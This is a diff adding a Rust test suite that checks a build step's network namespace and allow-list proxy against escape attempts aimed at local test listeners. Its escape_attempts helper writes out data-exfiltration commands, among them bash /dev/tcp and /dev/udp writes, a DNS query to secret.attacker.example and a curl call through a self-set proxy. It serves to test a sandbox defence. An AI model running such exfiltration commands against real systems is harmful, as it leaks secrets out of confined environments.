@@ -1,0 +1,300 @@
+//! The network policy attacked from inside a step: real `bash` processes (and `curl`,
+//! `python3`) in the namespace [`confine`] makes, against listeners this test opens on the
+//! host's loopback. Each attack is also run once without the namespace, which must reach
+//! its listener: that is what shows the test would fail without the confinement.
+//!
+//! Network namespaces need a root runner; elsewhere the namespace tests check only that
+//! the step fails closed.
+
+use std::collections::BTreeMap;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::sync::mpsc;
+use tokio_util::sync::CancellationToken;
+
+use super::*;
+use crate::process::{self, ProcessSpec};
+
+fn root() -> bool {
+    nix::unistd::geteuid().is_root()
+}
+
+/// A listener on the host's loopback that records every byte any client sends it.
+struct Listener {
+    port: u16,
+    received: Arc<Mutex<Vec<u8>>>,
+    connections: Arc<Mutex<usize>>,
+}
+
+impl Listener {
+    async fn tcp(address: &str) -> Listener {
+        let listener = tokio::net::TcpListener::bind((address, 0)).await.unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let received = Arc::new(Mutex::new(Vec::new()));
+        let connections = Arc::new(Mutex::new(0));
+        let (bytes, count) = (received.clone(), connections.clone());
+        tokio::spawn(async move {
+            while let Ok((mut stream, _)) = listener.accept().await {
+                *count.lock().unwrap() += 1;
+                let bytes = bytes.clone();
+                tokio::spawn(async move {
+                    let mut buffer = [0u8; 4096];
+                    while let Ok(n) = stream.read(&mut buffer).await {
+                        if n == 0 {
+                            break;
+                        }
+                        bytes.lock().unwrap().extend_from_slice(&buffer[..n]);
+                    }
+                });
+            }
+        });
+        Listener {
+            port,
+            received,
+            connections,
+        }
+    }
+
+    async fn udp(address: &str) -> Listener {
+        let socket = tokio::net::UdpSocket::bind((address, 0)).await.unwrap();
+        let port = socket.local_addr().unwrap().port();
+        let received = Arc::new(Mutex::new(Vec::new()));
+        let bytes = received.clone();
+        tokio::spawn(async move {
+            let mut buffer = [0u8; 4096];
+            while let Ok(n) = socket.recv(&mut buffer).await {
+                bytes.lock().unwrap().extend_from_slice(&buffer[..n]);
+            }
+        });
+        Listener {
+            port,
+            received,
+            connections: Arc::new(Mutex::new(0)),
+        }
+    }
+
+    fn heard(&self) -> bool {
+        *self.connections.lock().unwrap() > 0 || !self.received.lock().unwrap().is_empty()
+    }
+}
+
+/// A tiny HTTP server on the host's loopback answering `hello from <name>` to anything.
+async fn http_server(name: &'static str) -> u16 {
+    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    tokio::spawn(async move {
+        while let Ok((mut stream, _)) = listener.accept().await {
+            tokio::spawn(async move {
+                let mut head = Vec::new();
+                let mut buffer = [0u8; 1024];
+                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match stream.read(&mut buffer).await {
+                        Ok(0) | Err(_) => return,
+                        Ok(n) => head.extend_from_slice(&buffer[..n]),
+                    }
+                }
+                let body = format!("hello from {name}\n");
+                let answer = format!(
+                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+                    body.len()
+                );
+                let _ = stream.write_all(answer.as_bytes()).await;
+            });
+        }
+    });
+    port
+}
+
+/// Runs `script` with bash, in `network`'s namespace when given; its stdout and stderr.
+async fn run(script: &str, network: Option<&StepNetwork>) -> String {
+    let mut env = BTreeMap::from([("PATH".to_owned(), "/usr/bin:/bin".to_owned())]);
+    if let Some(network) = network {
+        network.set_env(&mut env);
+    }
+    let spec = ProcessSpec {
+        program: "/bin/bash".into(),
+        args: vec!["-c".into(), script.into()],
+        cwd: std::env::temp_dir(),
+        env,
+        user: None,
+        timeout: Duration::from_secs(60),
+        masker: Default::default(),
+        fresh_interpreter: false,
+        network: network.map(|n| n.namespace().clone()),
+    };
+    let (tx, mut rx) = mpsc::channel::<(Stream, String)>(64);
+    let collect = tokio::spawn(async move {
+        let mut text = String::new();
+        while let Some((_, line)) = rx.recv().await {
+            text.push_str(&line);
+            text.push('\n');
+        }
+        text
+    });
+    process::run(spec, tx, CancellationToken::new())
+        .await
+        .expect("bash runs");
+    collect.await.unwrap()
+}
+
+/// Every way out a step might try, each aimed at one of the test's listeners.
+fn escape_attempts(tcp: &Listener, other: &Listener, udp: &Listener, proxy: &Listener) -> String {
+    let (tcp, other, udp, proxy) = (tcp.port, other.port, udp.port, proxy.port);
+    format!(
+        r#"
+        echo "secret=s3cr3t" > /dev/tcp/127.0.0.1/{tcp} && echo "tcp: sent"
+        echo "secret=s3cr3t" > /dev/tcp/127.0.0.2/{other} && echo "other loopback: sent"
+        echo "secret.attacker.example" > /dev/udp/127.0.0.1/{udp} && echo "udp: sent"
+        python3 - <<'PY' && echo "dns: sent"
+import socket
+query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x08attacker\x07example\x00\x00\x01\x00\x01"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(1)
+s.sendto(query, ("127.0.0.1", {udp}))
+try:
+    s.recv(512)
+except OSError:
+    pass
+PY
+        python3 -c 'import socket; socket.getaddrinfo("secret.attacker.example", 80)' 2>/dev/null && echo "resolved"
+        python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"x" * 8, ("127.0.0.1", 0))' 2>/dev/null && echo "raw: sent"
+        export HTTPS_PROXY=http://127.0.0.1:{proxy} http_proxy=http://127.0.0.1:{proxy} NO_PROXY=
+        curl -s -m 3 -o /dev/null http://secret.attacker.example/s3cr3t; echo "curl via own proxy: $?"
+        true
+        "#
+    )
+}
+
+#[tokio::test]
+async fn a_step_without_network_reaches_no_listener_of_the_host() {
+    let (log, _keep) = mpsc::channel(16);
+    if !root() {
+        let failed = confine(&NetworkPolicy::None, &log).await.err().unwrap();
+        assert!(failed.contains("never runs with the host's network"), "{failed}");
+        return;
+    }
+    let tcp = Listener::tcp("127.0.0.1").await;
+    let other = Listener::tcp("127.0.0.2").await;
+    let udp = Listener::udp("127.0.0.1").await;
+    let proxy = Listener::tcp("127.0.0.1").await;
+    let confined = confine(&NetworkPolicy::None, &log).await.unwrap().unwrap();
+    let printed = run(&escape_attempts(&tcp, &other, &udp, &proxy), Some(&confined)).await;
+    // The step's own loopback works: the namespace is not simply broken.
+    let own = run(
+        "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 0)); s.listen(); \
+         c=socket.create_connection(s.getsockname()); print(\"own loopback: ok\")'",
+        Some(&confined),
+    )
+    .await;
+    assert_eq!(confined.finish().await, 0);
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    for (name, listener) in [("tcp", &tcp), ("127.0.0.2", &other), ("udp", &udp), ("proxy", &proxy)] {
+        assert!(!listener.heard(), "the {name} listener heard the step:\n{printed}");
+    }
+    for sent in ["tcp: sent", "other loopback: sent", "resolved"] {
+        assert!(!printed.contains(sent), "{sent}:\n{printed}");
+    }
+    assert!(own.contains("own loopback: ok"), "{own}");
+
+    // Without the namespace the very same attempts reach every listener.
+    let printed = run(&escape_attempts(&tcp, &other, &udp, &proxy), None).await;
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    for (name, listener) in [("tcp", &tcp), ("127.0.0.2", &other), ("udp", &udp), ("proxy", &proxy)] {
+        assert!(listener.heard(), "without the namespace the {name} listener heard nothing:\n{printed}");
+    }
+}
+
+#[tokio::test]
+async fn an_allow_list_reaches_only_its_hosts_through_the_proxy() {
+    let (log, mut lines) = mpsc::channel(16);
+    let allowed = http_server("allowed").await;
+    let listed_elsewhere = http_server("other").await;
+    let policy = NetworkPolicy::Allow(vec![format!("127.0.0.1:{allowed}")]);
+    if !root() {
+        assert!(confine(&policy, &log).await.is_err());
+        return;
+    }
+    let direct = Listener::tcp("127.0.0.1").await;
+    let confined = confine(&policy, &log).await.unwrap().unwrap();
+    let printed = run(
+        &format!(
+            r#"
+            curl -s -m 5 --noproxy '' -x "$HTTP_PROXY" http://127.0.0.1:{allowed}/
+            curl -s -m 5 --noproxy '' -x "$HTTP_PROXY" -o /dev/null -w 'other: %{{http_code}}\n' http://127.0.0.1:{listed_elsewhere}/
+            curl -s -m 5 --noproxy '' -x "$HTTP_PROXY" -p -o /dev/null -w 'tunnel: %{{http_code}}\n' http://example.com:443/
+            echo "secret" > /dev/tcp/127.0.0.1/{direct} && echo "direct: sent"
+            true
+            "#,
+            direct = direct.port
+        ),
+        Some(&confined),
+    )
+    .await;
+    assert_eq!(confined.finish().await, 2, "{printed}");
+    drop(log);
+    let mut said = Vec::new();
+    while let Some((stream, line)) = lines.recv().await {
+        assert_eq!(stream, Stream::System);
+        said.push(line);
+    }
+    assert!(printed.contains("hello from allowed"), "{printed}");
+    assert!(printed.contains("other: 403"), "{printed}");
+    assert!(!printed.contains("hello from other"), "{printed}");
+    assert!(!printed.contains("direct: sent"), "{printed}");
+    assert!(!direct.heard());
+    assert_eq!(
+        said,
+        [
+            format!("network: refused 127.0.0.1:{listed_elsewhere} (not in this step's allow-list)"),
+            "network: refused example.com:443 (not in this step's allow-list)".to_owned(),
+        ]
+    );
+}
+
+#[tokio::test]
+async fn open_costs_nothing_and_changes_nothing() {
+    let (log, _keep) = mpsc::channel(1);
+    assert!(confine(&NetworkPolicy::Open, &log).await.unwrap().is_none());
+}
+
+/// The proxy alone, on a listener of the host's: a tunnel to an allowed address whose TLS
+/// ClientHello names another host is cut before a byte reaches the upstream.
+#[tokio::test]
+async fn a_tunnel_whose_server_name_is_not_listed_is_cut() {
+    let upstream = Listener::tcp("127.0.0.1").await;
+    let allow = allow::AllowList::parse(&[format!("127.0.0.1:{}", upstream.port), "pypi.org".into()]).unwrap();
+    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await.unwrap();
+    let proxy_port = listener.local_addr().unwrap().port();
+    let (log, mut lines) = mpsc::channel(16);
+    let proxy = proxy::Proxy::serve(listener, allow, log);
+    let tunnel = |name: Option<&'static str>| async move {
+        let mut client = tokio::net::TcpStream::connect(("127.0.0.1", proxy_port)).await.unwrap();
+        client
+            .write_all(format!("CONNECT 127.0.0.1:{} HTTP/1.1\r\n\r\n", upstream.port).as_bytes())
+            .await
+            .unwrap();
+        let mut answer = [0u8; 39];
+        client.read_exact(&mut answer).await.unwrap();
+        assert!(answer.starts_with(b"HTTP/1.1 200"));
+        client.write_all(&sni::hello_for(name)).await.unwrap();
+        let mut rest = Vec::new();
+        let _ = tokio::time::timeout(Duration::from_secs(2), client.read_to_end(&mut rest)).await;
+    };
+    tunnel(Some("evil.example")).await;
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    assert!(!upstream.heard() || upstream.received.lock().unwrap().is_empty());
+    let before = upstream.received.lock().unwrap().len();
+    assert_eq!(before, 0);
+    // A hello naming an allowed host (or none) goes through.
+    tunnel(Some("pypi.org")).await;
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    assert!(!upstream.received.lock().unwrap().is_empty());
+    assert_eq!(proxy.finish().await, 1);
+    assert_eq!(
+        lines.recv().await.unwrap().1,
+        "network: refused evil.example:PORT (TLS server name not in this step's allow-list)"
+            .replace("PORT", &upstream.port.to_string())
+    );
+}
